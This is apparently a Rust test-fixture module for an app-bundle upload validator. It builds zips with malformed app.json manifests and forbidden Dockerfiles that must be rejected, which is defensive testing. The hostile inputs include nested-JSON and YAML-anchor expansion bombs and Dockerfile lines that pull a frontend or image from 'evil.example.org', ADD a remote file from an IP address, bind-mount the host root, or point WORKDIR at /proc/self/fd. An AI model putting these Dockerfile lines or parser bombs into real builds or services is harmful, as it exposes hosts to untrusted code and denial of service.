//! B-U9, B-U12 and `BUNDLE_UNRECOGNISED`: zips that are sound, and hold what no app may be made of.

use testkit::raw_zip::{RawEntry, RawZip};

use super::BadZip;

const INVALID: &str = "MANIFEST_INVALID";

/// Paths and contents.
type Files<'a> = &'a [(&'a str, &'a [u8])];

fn zip(files: Files<'_>) -> Vec<u8> {
    RawZip::of(files.iter().map(|(name, content)| RawEntry::stored(name, content))).bytes()
}

/// An `app.json` that is refused, with the line and column that must be told.
#[derive(Debug, Clone)]
pub struct BadManifest {
    pub zip: BadZip,
    /// None where the file is not read at all.
    pub place: Option<(usize, usize)>,
}

/// A bundle as it should be: one page.
pub fn static_site() -> Vec<u8> {
    zip(&[("index.html", b"<h1>a page</h1>")])
}

/// B-U9.
pub fn manifests() -> Vec<BadManifest> {
    let deep = "[".repeat(10_000);
    let inside = format!("{{\"location\":\n{}", "{\"a\":".repeat(10_000));
    let anchors = "a: &a [lol]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\nc: [*b,*b,*b,*b,*b,*b,*b,*b]\n";
    let long = format!("{{\"applicationDescription\": \"{}\"}}", "x".repeat(257));
    let forms: &[(&str, &str, &'static str, (usize, usize))] = &[
        ("empty", "", INVALID, (1, 0)),
        ("not JSON", "applicationName = \"shop\"\n", INVALID, (1, 1)),
        ("YAML anchors", anchors, INVALID, (1, 1)),
        ("10,000 levels", &deep, INVALID, (1, 1)),
        ("10,000 levels in a field", &inside, INVALID, (2, 156)),
        ("a field twice", "{\"location\": 1,\n \"location\": 2}", INVALID, (2, 11)),
        ("a key twice inside", "{\"location\": {\"a\": 1,\n\"a\": 2}}", INVALID, (2, 3)),
        ("an unknown field", "{\n\"role\": \"admin\"}", "MANIFEST_UNKNOWN_FIELD", (2, 6)),
        ("a number as name", "{\n\"applicationName\": 5}", INVALID, (2, 20)),
        ("null in a list", "{\n\"sensorTypes\": [null]}", INVALID, (2, 20)),
        ("an object as type", "{\"applicationType\": {}}", INVALID, (1, 22)),
        ("a list as description", "{\"applicationDescription\": []}", INVALID, (1, 27)),
        ("true as address", "{\"userEmail\": true}", INVALID, (1, 18)),
        ("a list", "\n []", INVALID, (2, 2)),
        ("the fields in a list", "[\"a\",\"b\",\"c\",[],{},\"d\"]", INVALID, (1, 1)),
        ("null", "null", INVALID, (1, 4)),
        ("two values", "{} {}", INVALID, (1, 4)),
        ("a huge number", "{\"location\": 1e999}", INVALID, (1, 18)),
        ("not a number", "{\"location\": NaN}", INVALID, (1, 14)),
        ("cut off", "{\"location\": {\n\"a\"", INVALID, (2, 3)),
        ("a long description", &long, INVALID, (1, 1)),
    ];
    let bad = |form: &str, content: &[u8], code, place| {
        let bytes = zip(&[("main.py", b"print()"), ("app.json", content)]);
        BadManifest { zip: BadZip::new("B-U9", form, bytes, code), place }
    };
    let mut manifests: Vec<BadManifest> = forms
        .iter()
        .map(|(form, text, code, place)| bad(form, text.as_bytes(), code, Some(*place)))
        .collect();
    manifests.push(bad("not UTF-8", b"{\n\"applicationName\": \"\xff\"}", INVALID, Some((2, 21))));
    let large = format!("{{\"location\": \"{}\"}}", "x".repeat(10 << 20));
    manifests.push(bad("10 MiB", large.as_bytes(), INVALID, None));
    let bytes = zip(&[("shop/main.py", b"print()"), ("shop/app.json", b"{\"role\": 1}")]);
    let zip = BadZip::new("B-U9", "below a folder", bytes, "MANIFEST_UNKNOWN_FIELD");
    manifests.push(BadManifest { zip, place: Some((1, 7)) });
    manifests
}

/// B-U12.
pub fn dockerfiles() -> Vec<BadZip> {
    let forms: [(&str, &str, &str); 9] = [
        ("# syntax=", "Dockerfile", "# syntax=evil.example.org/frontend\nFROM scratch\n"),
        ("FROM foreign", "Dockerfile", "FROM evil.example.org/image\n"),
        ("ADD http://", "Dockerfile", "FROM scratch\nADD http://192.0.2.1/evil /\n"),
        ("RUN --mount", "Dockerfile", "FROM scratch\nRUN --mount=type=bind,source=/ id\n"),
        ("WORKDIR", "Dockerfile", "FROM scratch\nWORKDIR /proc/self/fd/7\n"),
        ("empty", "Dockerfile", ""),
        ("lower case", "dockerfile", "FROM scratch\n"),
        ("Containerfile", "Containerfile", "FROM scratch\n"),
        ("below a folder", "shop/Dockerfile", "FROM scratch\n"),
    ];
    let bad = |(form, path, text): (&str, &str, &str)| {
        let main = path.replace(path.rsplit('/').next().unwrap_or_default(), "main.py");
        let bytes = zip(&[(&main, b"print()"), (path, text.as_bytes())]);
        BadZip::new("B-U12", form, bytes, "DOCKERFILE_FORBIDDEN")
    };
    forms.map(bad).to_vec()
}

/// Nothing that is known to be an app.
pub fn unrecognised() -> Vec<BadZip> {
    let forms: [(&str, Files<'_>); 5] = [
        ("an empty zip", &[]),
        ("one empty folder", &[("folder/", b"")]),
        ("notes", &[("notes.txt", b"hello")]),
        ("two folders", &[("a/main.py", b""), ("b/main.py", b"")]),
        ("too deep", &[("a/b/main.py", b""), ("a/c/x", b"")]),
    ];
    let bad = |(form, files): (&str, Files<'_>)| {
        BadZip::new("unrecognised:", form, zip(files), "BUNDLE_UNRECOGNISED")
    };
    forms.map(bad).to_vec()
}
